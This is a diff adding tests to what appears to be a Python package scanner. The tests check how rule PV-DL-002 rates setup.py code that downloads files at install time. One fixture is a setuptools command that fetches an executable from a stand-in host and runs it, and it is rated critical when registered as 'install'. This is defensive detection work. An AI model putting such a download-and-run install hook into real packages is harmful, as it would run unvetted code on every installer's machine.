@@ -630,3 +630,40 @@ def test_a_downloaded_pickle_saved_and_unpickled_as_the_package_loads_versus_a_m
         assert severities(RULES, py(head + fetch + load), "PV-DL-002") == [Severity.CRITICAL], load
     on_request = head + "def model():\n    " + fetch + "    return pickle.load(open(P, 'rb'))\n"
     assert "PV-DL-002" not in ids(run(RULES, py(on_request, stage=Stage.RUNTIME)))
+
+
+_FETCH_COMMAND = (
+    "import os, subprocess\nfrom urllib.request import urlopen\nfrom setuptools import Command, setup\n"
+    "class {name}(Command):\n    user_options = []\n"
+    "    def initialize_options(self):\n        pass\n    def finalize_options(self):\n        pass\n"
+    "    def run(self):\n        path = os.path.join('build', 'tool.exe')\n"
+    "        with open(path, 'wb') as fh:\n            fh.write(urlopen('https://h.example/t.exe').read())\n"
+    "        subprocess.check_call([path])\n"
+    "cmdclass = {{}}\ncmdclass[{key!r}] = {name}\nsetup(name='demo', cmdclass=cmdclass)\n"
+)
+
+
+def test_a_custom_setup_command_runs_only_when_a_maintainer_types_it() -> None:
+    """libusb1's ``setup.py update_libusb`` fetches and unpacks the Windows DLLs for a release;
+    pip never runs a command by that name. Registered as 'install', the same class runs on
+    every install."""
+
+    def dl002(name: str, key: str) -> list[Severity]:
+        source = _FETCH_COMMAND.format(name=name, key=key)
+        return severities(RULES, py(source, path="demo-1.0/setup.py", stage=Stage.INSTALL), "PV-DL-002")
+
+    assert dl002("update_tool", "update_tool") == [Severity.HIGH]  # on request, from a fixed address
+    assert dl002("update_tool", "install") == [Severity.CRITICAL]
+    assert dl002("develop", "develop") == [Severity.CRITICAL]
+
+
+def test_a_download_handed_to_a_signature_checker_is_not_run() -> None:
+    checked = (
+        "import subprocess\nfrom urllib.request import urlopen\n"
+        "with open('lib.7z', 'wb') as fh:\n    fh.write(urlopen('https://h.example/lib.7z').read())\n"
+        "subprocess.check_call(['gpgv', '--keyring', 'keys.kbx', 'lib.7z.asc', 'lib.7z'])\n"
+        "subprocess.check_call(['7z', 'e', 'lib.7z'])\n"
+    )
+    assert severities(RULES, py(checked, path="demo-1.0/setup.py", stage=Stage.INSTALL), "PV-DL-002") == [
+        Severity.HIGH
+    ]
